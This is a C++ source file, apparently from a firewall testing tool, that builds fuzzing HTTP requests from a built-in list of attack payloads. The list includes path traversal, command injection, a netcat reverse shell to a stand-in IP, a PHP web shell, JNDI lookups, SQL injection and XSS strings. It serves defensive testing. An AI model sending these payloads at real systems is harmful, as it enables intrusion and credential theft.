#include "payloads.h"

#include <fmt/format.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>

#include "parser/base/escape.h"
#include "random.h"
#include "tests/test_data.h"

namespace wafcheck::differential {
namespace {

namespace fs = std::filesystem;

/// What the public lines have little of: paths, commands, templates, encodings, odd bytes.
constexpr std::string_view kPayloads[] = {
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "..\\..\\windows\\win.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/proc/self/environ",
    "file:///etc/hosts",
    "http://169.254.169.254/latest/meta-data/",
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://x/)",
    "() { :; }; /bin/bash -c id",
    "nc -e /bin/sh 192.0.2.1 99",
    "c^at /etc/pa''sswd",
    "powershell -enc SQBFAFgA",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "java.lang.Runtime.getRuntime().exec(1)",
    "require('child_process').exec('id')",
    "__proto__[a]=1",
    "{\"$gt\":\"\"}",
    "*)(uid=*))(|(uid=*",
    "' or name() = 'a",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "a\r\nSet-Cookie: b=1",
    "a%0d%0aLocation:%20http://x/",
    "\xC0\xAE\xC0\xAE/",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E",
    "%u003cscript%u003e",
    "&#x3c;script&#62;",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x01\x02\x7F",
    "a=b&c=d;e",
    "1 UNION/**/SELECT/*!50000 1*/,2",
    "1;waitfor delay '0:0:5'--",
    "sleep(5)#",
    "x' AND 1=(SELECT COUNT(*) FROM tab)--",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "javascript:alert(1)",
    "<a href=\"data:text/html;base64,PHN2Zz4=\">",
    ".htaccess",
    "/.git/config",
    "wp-config.php.bak",
    "admin%00.php",
    "hello world",
    "O'Neill & sons (2024) - 50% off",
};

/// The public lines.
std::vector<std::string> corpus() {
  std::vector<fs::path> files;
  const fs::path folder = tests::shared() / "libinjection-tests" / "corpora";
  if (!fs::is_directory(folder)) return {};
  for (const auto& entry : fs::directory_iterator(folder)) files.push_back(entry.path());
  std::ranges::sort(files);
  std::vector<std::string> lines;
  for (const fs::path& path : files) {
    std::ifstream file(path, std::ios::binary);
    for (std::string line; std::getline(file, line);) {
      if (!line.empty() && line[0] != '#') lines.push_back(line);
    }
  }
  return lines;
}

std::string percent(std::string_view bytes) {
  return percent_encoded(bytes, [](char byte) {
    return is_printable(byte) && byte != ' ' &&
           std::string_view("%&+#=;").find(byte) == std::string_view::npos;
  });
}

/// In a path some bytes stand as they are, or the request is none.
std::string in_path(std::string_view bytes) {
  return percent_encoded(bytes, [](char byte) {
    return is_printable(byte) && byte != ' ' && byte != '?' && byte != '#';
  });
}

std::string in_header(std::string value) {
  std::erase_if(value, [](char byte) { return byte == '\0' || byte == '\r' || byte == '\n'; });
  return value;
}

std::string in_json(std::string_view bytes) {
  std::string out;
  for (const char byte : bytes) {
    if (byte == '"' || byte == '\\') {
      out += {'\\', byte};
    } else if (is_control(byte)) {
      out += fmt::format("\\u{:04x}", static_cast<unsigned char>(byte));
    } else {
      out += byte;
    }
  }
  return out;
}

formats::Exchange request_with(const std::string& payload, Random& random) {
  formats::Exchange exchange;
  formats::Request& request = exchange.request;
  request.method = "GET";
  request.uri = "/index.php";
  request.headers = {{"Host", "www.example.com"},
                     {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"},
                     {"Accept", "text/html"}};
  const auto body = [&](std::string_view type, std::string bytes) {
    request.method = "POST";
    request.headers.emplace_back("Content-Type", type);
    request.headers.emplace_back("Content-Length", std::to_string(bytes.size()));
    request.body = std::move(bytes);
  };
  switch (random.below(7)) {
    case 0:
      request.uri += "?q=" + percent(payload);
      break;
    case 1:
      body("application/x-www-form-urlencoded", "a=1&q=" + percent(payload));
      break;
    case 2:
      body("application/json", "{\"a\":1,\"q\":\"" + in_json(payload) + "\"}");
      break;
    case 3:
      request.headers.emplace_back(random.word_of("Referer|X-Forwarded-For|X-Custom"),
                                   in_header(payload));
      break;
    case 4:
      request.headers.emplace_back("Cookie", "s=1; q=" + in_header(payload));
      break;
    case 5:
      request.uri = "/a/" + in_path(payload);
      break;
    default: {
      const std::string name =
          random.percent(50) ? "" : "; filename=\"" + in_header(payload) + "\"";
      body("multipart/form-data; boundary=Xb1",
           "--Xb1\r\nContent-Disposition: form-data; name=\"q\"" + name + "\r\n\r\n" + payload +
               "\r\n--Xb1--\r\n");
      break;
    }
  }
  return exchange;
}

}  // namespace

std::vector<formats::Exchange> payload_requests(size_t count, uint64_t seed) {
  const std::vector<std::string> lines = corpus();
  std::vector<formats::Exchange> exchanges;
  if (lines.empty()) return exchanges;
  Random random(seed);
  for (; count > 0; --count) {
    const std::string payload =
        random.percent(30) ? std::string(random.pick(kPayloads)) : random.pick(lines);
    exchanges.push_back(request_with(payload, random));
  }
  return exchanges;
}

}  // namespace wafcheck::differential
